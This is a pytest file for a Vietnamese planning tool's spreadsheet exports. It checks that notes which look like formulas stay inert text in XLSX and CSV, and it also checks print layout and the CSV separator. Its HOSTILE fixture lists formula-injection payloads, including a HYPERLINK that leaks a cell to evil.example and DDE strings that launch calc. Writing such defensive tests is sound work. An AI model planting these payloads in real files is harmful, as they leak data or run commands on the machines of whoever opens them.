"""Spreadsheets an officer opens in Excel: text stays text (a note starting with "=" is never
a live formula), each table on its own printable sheet, durations in minutes, and a CSV
separator Excel on Vietnamese regional settings reads."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from kehoach_tui.cli import main
from kehoach_tui.domain.periods import parse_period
from kehoach_tui.reports.export import render
from kehoach_tui.reports.model import build_report
from tests.report_data import fill

TODAY = dt.date(2025, 11, 5)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def model(seeded):
    from kehoach_tui.store.tasks import record_update

    fill(seeded)
    for code, note in zip(("1.2", "1.3", "1.4", "2.1"), HOSTILE, strict=True):
        record_update(seeded, code, status="in_progress", progress=10, note=note)
    return build_report(seeded, parse_period("month", "2025-11", TODAY), TODAY)


def test_a_note_starting_like_a_formula_stays_text_in_xlsx(model):
    data = render(model, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for row in book["Cập nhật trong kỳ"].iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        cell = cells[text]
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_a_note_starting_like_a_formula_gets_an_apostrophe_in_csv(model):
    rows = list(csv.DictReader(io.StringIO(render(model, "csv", "16969").decode("utf-8-sig"))))
    notes = {r["gia_tri"] for r in rows if r["bang"] == "updates" and r["cot"] == "Nội dung, căn cứ"}
    for text in HOSTILE:
        assert f"'{text}" in notes
    assert "Số hóa hồ sơ năm 2024" in notes  # ordinary text untouched


def test_each_table_prints_on_a4_landscape_with_its_header_repeated(model):
    book = load_workbook(io.BytesIO(render(model, "xlsx")))
    for name in ("Nhóm nhiệm vụ", "Chỉ tiêu", "Sự cố", "Phụ lục - Nhiệm vụ"):
        sheet = book[name]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:"), name
        setup = sheet.page_setup
        assert (setup.orientation, int(setup.paperSize), setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.print_title_rows == "$1:$1"
    incidents = book["Sự cố"]
    header = [c.value for c in incidents[1]]
    minutes = header.index("Gián đoạn (phút)") + 1
    values = [incidents.cell(row=r, column=minutes).value for r in range(2, incidents.max_row + 1)]
    assert values[:2] == [480, 150] and isinstance(values[2], int)  # the third is still down: up to now


def test_csv_separator_by_option_and_setting(capsys, db_path, tmp_path):
    def run(*args):
        code = 0
        try:
            main(["--db", str(db_path), *args])
        except SystemExit as exc:
            code = exc.code or 0
        return code, *capsys.readouterr()

    assert run("init")[0] == 0
    code, out, err = run("report", "monthly", "--period", "2025-11", "--format", "csv", "--out", "-",
                         "--csv-sep", ";")
    assert code == 0, err
    assert out.lstrip("\ufeff").splitlines()[0] == "ma_xa;ky_tu;ky_den;muc;bang;dong;cot;gia_tri"
    assert run("report", "settings", "--csv-sep", ";")[0] == 0
    code, out, _ = run("report", "monthly", "--period", "2025-11", "--format", "csv", "--out", "-")
    assert out.lstrip("\ufeff").startswith("ma_xa;ky_tu")
    code, _, err = run("report", "monthly", "--format", "csv", "--out", "-", "--csv-sep", "|")
    assert code == 1 and "CSV" in err and err.count("\n") == 1
